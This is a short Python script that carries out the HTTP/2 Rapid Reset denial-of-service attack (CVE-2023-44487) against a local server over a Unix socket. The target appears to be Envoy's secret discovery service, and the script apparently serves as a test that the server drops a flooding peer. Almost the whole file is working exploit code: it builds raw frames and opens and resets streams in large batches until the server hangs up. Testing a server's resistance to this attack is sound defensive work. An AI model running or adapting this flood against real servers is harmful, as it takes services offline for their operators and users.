"""python flood.py SOCKET: open streams and reset them, as fast as the server takes it (CVE-2023-44487), until it hangs up
and keeps us out. A program of its own: the server hangs up on the whole process that does so."""
import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
AT_A_TIME = 64


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def flood(path):
    """Did the server keep us out? Otherwise it let us in, and has hung up since."""
    block = b"\x83\x86" + literal(b":path", PATH) + literal(b":authority", b"x") + literal(b"te", b"trailers") + literal(
        b"content-type", b"application/grpc")
    with socket.socket(socket.AF_UNIX) as server:
        server.connect(path)
        try:
            if not server.recv(1, socket.MSG_PEEK):
                return True
            server.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for first in range(1, 1 << 30, 2 * AT_A_TIME):
                server.sendall(b"".join(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 2 * AT_A_TIME, 2)))
        except ConnectionError:
            return False
    return False


while not flood(sys.argv[1]):
    pass
